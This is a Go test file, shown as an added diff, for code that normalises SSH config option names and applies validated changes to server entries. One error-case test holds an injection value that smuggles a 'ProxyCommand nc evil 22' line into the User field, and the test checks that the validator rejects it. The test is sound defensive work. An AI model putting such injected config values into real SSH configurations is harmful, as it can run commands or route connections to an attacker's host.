@@ -0,0 +1,111 @@
+// Copyright 2025.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package domain
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestCanonicalServerOption(t *testing.T) {
+	tests := []struct {
+		option string
+		want   string
+		ok     bool
+	}{
+		{"serveraliveinterval", "ServerAliveInterval", true},
+		{" MACs ", "MACs", true},
+		{"hostname", "HostName", true},
+		{"IdentityFile", "IdentityFile", true},
+		{"Port", "Port", true},
+		{"Alias", "", false},
+		{"Tags", "", false},
+		{"SSHCount", "", false},
+		{"MadeUpOption", "", false},
+	}
+	for _, tt := range tests {
+		got, ok := CanonicalServerOption(tt.option)
+		if got != tt.want || ok != tt.ok {
+			t.Errorf("CanonicalServerOption(%q) = %q, %t; want %q, %t", tt.option, got, ok, tt.want, tt.ok)
+		}
+	}
+}
+
+func TestApplyServerChanges(t *testing.T) {
+	server := Server{
+		Alias:         "web",
+		Host:          "web.example.com",
+		Port:          22,
+		IdentityFiles: []string{"~/.ssh/id_rsa"},
+		ForwardAgent:  "yes",
+		ProxyJump:     "bastion",
+	}
+
+	patched, diffs, err := ApplyServerChanges(server, []ServerFieldChange{
+		{Option: "ServerAliveInterval", Value: "60", Reason: "keep idle sessions open"},
+		{Option: "forwardagent", Value: "no"},
+		{Option: "ProxyJump", Value: ""},
+		{Option: "IdentityFile", Value: "~/.ssh/id_ed25519, ~/.ssh/id_rsa"},
+		{Option: "Port", Value: "2222"},
+		{Option: "HostName", Value: "web.example.com"}, // unchanged
+	})
+	if err != nil {
+		t.Fatalf("ApplyServerChanges failed: %v", err)
+	}
+
+	want := []ServerFieldDiff{
+		{Option: "ServerAliveInterval", Old: "", New: "60", Reason: "keep idle sessions open"},
+		{Option: "ForwardAgent", Old: "yes", New: "no"},
+		{Option: "ProxyJump", Old: "bastion", New: ""},
+		{Option: "IdentityFile", Old: "~/.ssh/id_rsa", New: "~/.ssh/id_ed25519, ~/.ssh/id_rsa"},
+		{Option: "Port", Old: "22", New: "2222"},
+	}
+	if !reflect.DeepEqual(diffs, want) {
+		t.Errorf("Unexpected diffs:\n got %+v\nwant %+v", diffs, want)
+	}
+	if patched.Port != 2222 || patched.ForwardAgent != "no" || len(patched.IdentityFiles) != 2 || patched.Alias != "web" {
+		t.Errorf("Unexpected patched server: %+v", patched)
+	}
+	if server.ForwardAgent != "yes" || len(server.IdentityFiles) != 1 || server.Port != 22 {
+		t.Errorf("The original server must not change, got %+v", server)
+	}
+}
+
+func TestApplyServerChanges_Errors(t *testing.T) {
+	server := Server{Alias: "web", Port: 22}
+	tests := []struct {
+		name   string
+		change ServerFieldChange
+		want   string
+	}{
+		{"unknown option", ServerFieldChange{Option: "Tags", Value: "prod"}, "unknown SSH config option"},
+		{"invalid port", ServerFieldChange{Option: "Port", Value: "ssh"}, "not a number"},
+		{"newline", ServerFieldChange{Option: "User", Value: "deploy\nProxyCommand nc evil 22"}, "control characters"},
+		{"carriage return", ServerFieldChange{Option: "HostName", Value: "web\r.example.com"}, "control characters"},
+		{"control in list", ServerFieldChange{Option: "IdentityFile", Value: "~/.ssh/a, ~/.ssh/b\x00"}, "control characters"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			patched, diffs, err := ApplyServerChanges(server, []ServerFieldChange{tt.change})
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Errorf("Expected error containing %q, got %v", tt.want, err)
+			}
+			if diffs != nil || patched.Port != 22 {
+				t.Errorf("Expected the server back unchanged, got %+v", patched)
+			}
+		})
+	}
+}